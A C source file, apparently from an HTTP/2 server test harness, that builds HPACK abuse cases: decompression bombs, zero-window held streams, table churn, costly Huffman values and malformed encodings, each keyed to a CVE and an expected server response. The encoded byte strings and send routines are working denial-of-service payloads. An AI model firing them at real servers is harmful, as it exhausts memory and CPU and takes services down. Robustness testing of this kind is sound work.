// abuse/h2_hpack.c: field blocks that decode to far more than they are, or that cannot be decoded (RFC 7541).
#include "abuse/cases.h"
#include "abuse/wire.h"

#include <stdlib.h>

enum {
    BLOCK_ROOM = 65536,
    FRAMES_ROOM = BLOCK_ROOM + 4096,
    ENTRY_VALUE = 3000, // bytes of the table's one large entry
    STREAMS = 200,      // of a connection
};

// An ordinary request's block with the case's bytes behind it, the last of them `number` times; before it where that is 0.
static void put_bomb(struct weft_writer *out, const struct weft_abuse_play *play)
{
    struct weft_span bytes = play->which->bytes;
    if (play->which->number == 0) weft_write_bytes(out, bytes);
    weft_abuse_put_block(out, play, "GET", play->target->path);
    if (play->which->number > 0) weft_write_bytes(out, bytes);
    for (unsigned i = 1; i < play->which->number; i++) {
        weft_write_u8(out, bytes.data[bytes.size - 1]);
    }
}

// One request, whose stream has no window.
static void play_block(struct weft_abuse_play *play)
{
    uint8_t *room = malloc(BLOCK_ROOM + FRAMES_ROOM);
    struct weft_abuse_link link;
    if (!room) return;
    struct weft_writer block = weft_writer_over(room, BLOCK_ROOM);
    struct weft_writer out = weft_writer_over(room + BLOCK_ROOM, FRAMES_ROOM);
    put_bomb(&block, play);
    weft_abuse_put_long_block(&out, 1, WEFT_ABUSE_END_STREAM, weft_written(&block));
    if (weft_abuse_h2_open(play, &link, WEFT_ABUSE_BLOCKED)) {
        (void)weft_abuse_send(&link, weft_written(&out));
        if (play->which->rule == WEFT_ABUSE_ENDED) {
            (void)weft_abuse_listen(&link, play->budget.patience_us);
        } else {
            weft_abuse_await(&link);
        }
        weft_abuse_close(&link);
    }
    free(room);
}

// The fields that a server may keep of a request, over and over, on streams that cannot be answered: nothing is freed.
// The first block makes an entry of the table; `number` references to it, of a byte each, are in every request.
static void put_held(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    uint8_t room[BLOCK_ROOM / 4];
    struct weft_writer block = weft_writer_over(room, sizeof(room));
    weft_abuse_put_block(&block, play, "GET", play->target->large);
    if (i == 0) weft_write_bytes(&block, play->which->bytes);
    for (unsigned k = 0; k < play->which->number; k++) {
        weft_write_u8(&block, 0xbe); // the newest entry, §6.1
    }
    weft_abuse_put_frame(out, WEFT_ABUSE_HEADERS, WEFT_ABUSE_WHOLE, 2 * i + 1,
                         weft_written(&block));
}

static void play_held(struct weft_abuse_play *play)
{
    enum { LINKS = 10 };
    static struct weft_abuse_link links[LINKS];
    uint8_t *room = malloc(FRAMES_ROOM);
    if (!room) return;
    size_t count = 0;
    for (; count < LINKS; count++) {
        if (!weft_abuse_h2_open(play, &links[count], WEFT_ABUSE_BLOCKED)) break;
        bool goes_on = true;
        for (uint32_t i = 0; i < STREAMS && goes_on; i++) {
            struct weft_writer out = weft_writer_over(room, FRAMES_ROOM);
            put_held(&out, play, i);
            goes_on = weft_abuse_send(&links[count], weft_written(&out));
        }
    }
    (void)weft_abuse_listen_all(links, count, play->budget.limit_us);
    weft_abuse_close_all(links, count);
    free(room);
}

// Requests in a row whose blocks churn the table: its size to nothing and back, and large entries that push each other out.
static void put_churn(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    uint8_t room[BLOCK_ROOM / 4];
    uint8_t value[ENTRY_VALUE];
    struct weft_writer block = weft_writer_over(room, sizeof(room));
    memset(value, 'a' + (int)(i % 26), sizeof(value));
    weft_write_bytes(&block, WEFT_SPAN("\x20\x3f\xe1\x1f")); // 0, then 4096, §6.3
    weft_abuse_put_block(&block, play, "GET", play->target->path);
    weft_write_bytes(&block,
                     WEFT_SPAN("\x40\1x\x7f\xb9\x16")); // with incremental indexing, 3000 bytes
    weft_write_bytes(&block, (struct weft_span){value, sizeof(value)});
    weft_write_bytes(&block, WEFT_SPAN("\x40\1y\1z\xbe\xbe"));
    weft_abuse_put_frame(out, WEFT_ABUSE_HEADERS, WEFT_ABUSE_WHOLE, 2 * i + 1,
                         weft_written(&block));
}

// Values in Huffman code, which take more to decode than to send.
static void put_huffman(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    uint8_t room[BLOCK_ROOM / 4];
    uint8_t code[4001];
    struct weft_writer block = weft_writer_over(room, sizeof(room));
    memset(code, 0x18, sizeof(code)); // 00011 'a' and parts of it: whatever it says, no EOS
    for (size_t k = 0; k + 5 <= sizeof(code); k += 5) {
        memcpy(code + k, "\x18\xc6\x31\x8c\x63", 5); // eight times 00011
    }
    code[4000] = 0x1f; // 00011 and the padding
    weft_abuse_put_block(&block, play, "GET", play->target->path);
    weft_write_bytes(&block, WEFT_SPAN("\0\1x\xff\xa2\x1e")); // Huffman, 4001 bytes
    weft_write_bytes(&block, (struct weft_span){code, sizeof(code)});
    weft_abuse_put_frame(out, WEFT_ABUSE_HEADERS, WEFT_ABUSE_WHOLE, 2 * i + 1,
                         weft_written(&block));
}

static void play_churn(struct weft_abuse_play *play)
{
    static const struct weft_abuse_flood churn = {.protocol = WEFT_ABUSE_H2, .piece = put_churn};
    static const struct weft_abuse_flood huffman = {.protocol = WEFT_ABUSE_H2,
                                                    .piece = put_huffman};
    weft_abuse_play_flood(play, play->which->number ? &huffman : &churn);
}

#define ROW(id, name, cve, sent, rule, needs, play, bytes, number)                               \
    {                                                                                            \
        "h2/" id, name, cve, sent, WEFT_ABUSE_##rule, needs, play, WEFT_SPAN_INIT(bytes), number \
    }
#define BOMB(id, name, cve, sent, bytes, number) \
    ROW(id, name, cve, sent, REFUSED, 0, play_block, bytes, number)
#define WRONG(id, sent, bytes) \
    ROW("hpack-" id, "HPACK edges", "", sent, ENDED, 0, play_block, bytes, 1)
#define HELD(id, name, cve, sent, bytes, number) \
    ROW(id, name, cve, sent, BOUNDED, WEFT_ABUSE_OPEN, play_held, bytes, number)
#define A100                                                                                       \
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" \
    "aaaaaaaa"
#define A1000 A100 A100 A100 A100 A100 A100 A100 A100 A100 A100

// clang-format off
static const struct weft_abuse_case cases[] = {
    BOMB("bomb", "HTTP/2 bomb", "CVE-2026-49975, CVE-2026-47774", "one small entry, 15,000 references of a byte", "\x40\1x\1y\xbe", 15000),
    BOMB("bomb-crumbs", "HTTP/2 bomb", "CVE-2026-49975", "15,000 cookie crumbs by references", "\x60\1a\xbe", 15000),
    BOMB("bomb-static", "HTTP/2 bomb", "CVE-2026-49975", "15,000 references to the static table", "\x90", 15000),
    HELD("bomb-held", "HTTP/2 bomb, held by zero windows", "CVE-2026-49975", "70 fields a request by references, 200 requests on each of ten connections, no window",
         "\x40\1x\1y", 70),
    BOMB("hpack-bomb", "HPACK bomb", "CVE-2016-6581, CVE-2016-1544, CVE-2016-2525", "an entry of 3 KB, 5,000 references", "\x40\1x\x7f\xb9\x16" A1000 A1000 A1000 "\xbe", 5000),
    HELD("hpack-bomb-held", "HPACK bomb, held by zero windows", "CVE-2016-6581", "27 KB of fields a request by references, 200 requests on each of ten connections, no window",
         "\x40\1x\x7f\xb9\x16" A1000 A1000 A1000, 8),
    ROW("table-churn", "HPACK table games", "", "the table's size to 0 and back, entries that push each other out, in every block", BOUNDED, 0, play_churn, "", 0),
    ROW("huffman", "header cost asymmetry", "CVE-2023-45288", "values in Huffman code, which take more to decode than to send", BOUNDED, 0, play_churn, "", 1),
    WRONG("update-late", "a size update behind a field", "\x20"),
    ROW("hpack-update-large", "HPACK edges", "", "a table size above the limit", ENDED, 0, play_block, "\x3f\xe2\x7f", 0),
    WRONG("index-0", "the index 0", "\x80"),
    WRONG("index-beyond", "an index beyond both tables", "\xff\xff\x01"),
    WRONG("integer-long", "an integer of 20 bytes", "\xff\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x01"),
    WRONG("integer-overflow", "an index of 2^62", "\xff\xff\xff\xff\xff\xff\xff\xff\xff\x3f"),
    WRONG("string-beyond", "a string that is longer than the block", "\0\1x\x7f\xff\xff\xff\x07y"),
    WRONG("huffman-eos", "EOS in a string", "\0\1x\x84\xff\xff\xff\xff"),
    WRONG("huffman-padding", "padding of more than 7 bits", "\0\1x\x82\x1f\xff"),
    WRONG("huffman-zeroes", "padding of zeroes", "\0\1x\x81\x18"),
};
// clang-format on

const struct weft_abuse_table weft_abuse_h2_hpack = {cases, WEFT_COUNT(cases)};
